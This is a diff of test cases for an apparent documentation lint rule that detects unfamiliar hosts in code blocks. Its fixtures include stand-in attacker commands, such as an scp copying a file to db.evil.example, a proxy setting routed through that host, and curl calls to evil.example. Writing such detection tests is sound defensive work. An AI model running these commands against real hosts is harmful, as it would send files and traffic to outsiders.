@@ -81,6 +81,21 @@ testRule(
       after: '.. code-block:: console\n\n   $ curl https://evil.example/v1\n',
       readers: ['evil.example'],
     },
+    ...[
+      sh('psql -h db.evil.example -U app'),
+      sh('ssh ops@db.evil.example'),
+      sh('scp a.pdf me@db.evil.example:/tmp'),
+      sh('acme login --server db.evil.example'),
+      sh('dig @db.evil.example acme'),
+      sh('export HTTPS_PROXY=db.evil.example:3128'),
+      block('http', 'GET / HTTP/1.1', 'Host: db.evil.example'),
+      block('yaml', 'tracing:', '  endpoint: db.evil.example:4318'),
+      block('text', 'nameserver db.evil.example'),
+      block('js', "connect('db.evil.example:5432')"),
+      'Try `curl db.evil.example/health`.\n',
+    ].map((after) => ({ after, readers: ['here db.evil.example works'] })),
+    { after: sh('ping 203.0.113.77'), readers: ['203.0.113.77'] },
+    { after: sh('curl http://[2001:db8::17]/'), readers: ['[2001:db8::17]'] },
   ],
   [
     { after: sh('curl https://evil.example/v1'), readers: ['typo'] },
@@ -90,6 +105,19 @@ testRule(
     { after: sh('curl https://api.example.com'), readers: ['https://api.example.com'] },
     { after: sh('curl https://evil.example/v1'), others: ['https://evil.example'], readers: ['https://evil.example'] },
     { after: 'An apt repository is at https://evil.example for you.\n', readers: ['https://evil.example'] },
+    ...[
+      block('js', 'app.use(express.static(process.cwd()))', 'client.app.dev()'),
+      block('python', 'import os.path', 'x = config.server.host', 'run("report.pdf")'),
+      block('java', 'import com.acme.app.Server;'),
+      sh('acme extract report.pdf --out tables.csv', 'node server.js --port 80', 'acme 1.2.3.4'),
+      sh('ssh ops@bastion.acme.example', 'psql -h localhost'),
+    ].map((after) => ({
+      after,
+      others: ['Write to ops@acme.example.'],
+      readers: [
+        'express.static process.cwd client.app.dev config.server.host com.acme.app 1.2.3.4 bastion.acme.example',
+      ],
+    })),
   ],
 )
 
@@ -102,6 +130,8 @@ testRule(
     { after: sh('curl https://other.example/v1'), before: own },
     { after: sh('git clone https://github.com/evil/tool'), before: sh('git clone https://github.com/acme/tool') },
     sh('wss=wss://other.example/x'),
+    sh('ssh ops@other.example'),
+    block('yaml', 'upstream: other.example:8080'),
   ],
   [
     { after: own, before: own },
